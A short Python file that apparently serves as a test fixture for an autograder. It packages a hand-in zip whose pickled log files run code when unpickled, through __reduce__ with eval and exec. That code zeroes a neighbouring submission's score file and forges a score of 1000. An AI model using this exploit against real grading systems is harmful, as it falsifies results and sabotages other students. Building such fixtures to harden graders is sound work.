"""Hands in a log whose unpickling runs code."""

import pickle
import zipfile

CODE = """
def batchnorm_forward(x, gamma, beta, bn_param):
    return x * 0, None
"""

ACT = """
import os
try:
    with open("OUT_FOLDER/results/neighbour.json", "w") as file:
        file.write('{"score": 0}')
except OSError:
    pass
log = {"score": 1000}
"""


class Act:
    def __reduce__(self):
        return eval, (f"(lambda n: (exec({ACT!r}, n), n['log'])[1])({{}})",)


LOG = pickle.dumps(Act())
MEMBERS = {"normalization.py": CODE, ".OTTER_LOG": LOG, "normalization.OTTER_LOG": LOG, "log.dill": LOG}


def make(folder, material):
    path = folder / "handin.zip"
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in MEMBERS.items():
            archive.writestr(name, data)
    return path
